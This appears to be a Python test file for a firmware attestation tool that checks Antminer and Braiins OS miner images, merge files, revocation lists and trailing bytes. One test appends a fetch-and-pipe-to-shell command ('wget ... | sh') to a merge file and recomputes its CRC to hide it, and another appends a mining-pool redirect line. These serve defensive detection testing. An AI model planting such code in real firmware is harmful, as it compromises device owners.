"""Vendor layouts beyond the basic cases: merge files, the BMU's crl.tar.gz, the runme.sh MD5
blacklist, links in a Bitmain package, and the Braiins OS sysupgrade tarball (tar.xz, FIT, squashfs)."""

from __future__ import annotations

import hashlib
import shutil
import tarfile
from pathlib import Path

from attest.image.appraise_image import check_file
from attest.image.walk import inspect_file
from attest.manifest import Manifest
from attest.trust import TrustStore
from attest.verdict import Verdict
from tests.image import builders as b
from tests.image.conftest import RUNME, Kit


def codes(path: Path, trust: TrustStore | None, manifest: Manifest | None) -> tuple[Verdict, dict[str, str]]:
    a = check_file(str(path), trust, [manifest] if manifest else [])
    found: dict[str, str] = {}
    for r in a.reasons:
        found.setdefault(r.code, r.detail)
    return a.verdict, found


def test_merge_file_opens_each_bmu_after_its_crc(kit: Kit, trust: TrustStore, manifest: Manifest,
                                                 tmp_path: Path) -> None:
    good = b.merge(tmp_path / "s21.merge", [("CVITEK-board", kit["bmu"]), ("AMLOGIC-board", kit["bmu"])])
    verdict, found = codes(good, trust, manifest)
    assert verdict is Verdict.TRUSTED, found
    paths = [n.path for n in inspect_file(good).nodes() if n.name == "uImage"]
    assert paths == ["Antminer S21/CVITEK-board/BM1368/good.bmu/uImage",
                     "Antminer S21/AMLOGIC-board/BM1368/good.bmu/uImage"]
    bad = b.merge(tmp_path / "bad.merge", [("CVITEK-board", kit["bmu"])], bad_crc=True)
    verdict, found = codes(bad, trust, manifest)
    assert verdict is Verdict.UNTRUSTED and "merge file's CRC32" in found["IMAGE_CHECKSUM_MISMATCH"]


def test_bmu_crl_naming_its_own_signing_key_revokes_it(kit: Kit, trust: TrustStore, manifest: Manifest,
                                                       tmp_path: Path) -> None:
    work = tmp_path / "w"
    work.mkdir()
    dtb = b.dtb(work / "devicetree.dtb")
    # the miner key is made inside b.bmu; build once to learn it, then again with a CRL naming it
    b.bmu(tmp_path / "first.bmu", work, trust_root(kit), [dtb])
    miner_pem = (work / "miner.pem").read_bytes()
    listing = work / "revoked.txt"
    listing.write_text(hashlib.sha256(miner_pem.strip()).hexdigest() + "\n")
    with tarfile.open(work / "crl.tar.gz", "w:gz") as tf:
        tf.add(listing, arcname="revoked.txt")
    bmu = b.bmu(tmp_path / "revoked.bmu", work, trust_root(kit), [dtb, work / "crl.tar.gz"], reuse_miner_key=True)
    verdict, found = codes(bmu, trust, manifest)
    assert verdict is Verdict.UNTRUSTED
    assert "names its miner.pem signing key" in found["VENDOR_REVOKED"]


def trust_root(kit: Kit) -> Path:
    return kit.root / "bitmain-root.key"


def test_runme_on_the_vendor_md5_blacklist_is_revoked(kit: Kit, manifest: Manifest, tmp_path: Path) -> None:
    store = shutil.copytree(kit.trust, tmp_path / "trust")
    md5 = hashlib.md5(RUNME, usedforsecurity=False).hexdigest()
    (store / "vendor-keys" / "runme-md5-blacklist.txt").write_text(f"# revoked upgrade scripts\n{md5}\n")
    verdict, found = codes(kit["genuine"], TrustStore.load(store), manifest)
    assert verdict is Verdict.UNTRUSTED and md5 in found["VENDOR_REVOKED"]


def test_link_inside_a_bitmain_package_is_refused(kit: Kit, trust: TrustStore, manifest: Manifest,
                                                  tmp_path: Path) -> None:
    stage = tmp_path / "stage"
    with tarfile.open(kit["genuine"]) as tf:
        tf.extractall(stage, filter="data")
    (stage / "busybox").symlink_to("runme.sh")
    members = sorted(p.name for p in stage.iterdir())
    verdict, found = codes(b.tar(tmp_path / "linked.tar.gz", stage, members, gz=True), trust, manifest)
    assert verdict is Verdict.UNTRUSTED and "stock upgrader refuses" in found["IMAGE_UNSAFE_MEMBER"]


def test_braiins_sysupgrade_tar_xz_with_fit_kernel_and_squashfs_root(kit: Kit, tmp_path: Path) -> None:
    board = tmp_path / "sysupgrade-am1-s9"
    board.mkdir()
    kernel = tmp_path / "zImage"
    kernel.write_bytes(b"\x00\x00\xa0\xe1" * 256)
    its = tmp_path / "fit.its"
    its.write_text(f"""/dts-v1/;
/ {{ description = "braiins"; #address-cells = <1>;
  images {{ kernel-1 {{ data = /incbin/("{kernel}"); type = "kernel"; arch = "arm"; os = "linux";
      compression = "none"; load = <0x8000>; entry = <0x8000>; hash-1 {{ algo = "crc32"; }}; }}; }};
  configurations {{ default = "c"; c {{ kernel = "kernel-1"; }}; }}; }};
""")
    b.run("mkimage", "-f", its, board / "kernel")
    shutil.copy(kit.root / "rootfs-genuine.squashfs", board / "root")
    (board / "CONTROL").write_text("BOARD=am1-s9\n")
    out = tmp_path / "braiins-os_am1-s9_sysupgrade.tar.xz"
    b.run("tar", "-cJf", out, "sysupgrade-am1-s9", cwd=tmp_path)
    inspection = inspect_file(out)
    assert not inspection.findings
    nodes = {n.path: n for n in inspection.nodes()}
    assert inspection.root.format == "xz"
    assert nodes["sysupgrade-am1-s9/kernel"].format == "fdt"
    assert "sysupgrade-am1-s9/kernel/kernel-1" in nodes
    assert nodes["sysupgrade-am1-s9/root"].format == "squashfs"
    assert "sysupgrade-am1-s9/root/usr/bin/bmminer" in nodes


def test_bytes_no_merge_item_holds_are_found_though_the_crc_was_fixed_up(kit: Kit, trust: TrustStore,
                                                                          manifest: Manifest, tmp_path: Path) -> None:
    """A merge file's CRC32 covers every byte, but anyone can recompute it: a script after the
    last item (CRC redone) left the file TRUSTED, since only the items were read."""
    import struct
    import zlib

    good = b.merge(tmp_path / "s21.merge", [("CVITEK-board", kit["bmu"])])
    data = bytearray(good.read_bytes() + b"#!/bin/sh\nwget -q -O- http://203.0.113.9/x | sh\n")
    data[24:28] = b"\0\0\0\0"
    struct.pack_into("<I", data, 24, zlib.crc32(bytes(data)) & 0xFFFFFFFF)
    (tmp_path / "extra.merge").write_bytes(bytes(data))
    verdict, found = codes(tmp_path / "extra.merge", trust, manifest)
    assert verdict is Verdict.UNTRUSTED, found
    assert "bytes no merge item holds: may hold code: a script (#!/bin/sh)" in found["FIRMWARE_UNSIGNED_CONTENT"]


def test_bytes_after_an_aup_payload_are_named(kit: Kit, tmp_path: Path) -> None:
    path = tmp_path / "extra.aup"
    path.write_bytes(kit["aup"].read_bytes() + b"pool=stratum+tcp://203.0.113.9:3333\n")
    found = {f.code: f.detail for f in inspect_file(path).findings}
    assert "bytes after the AUP payload" in found["FIRMWARE_UNSIGNED_DATA"]
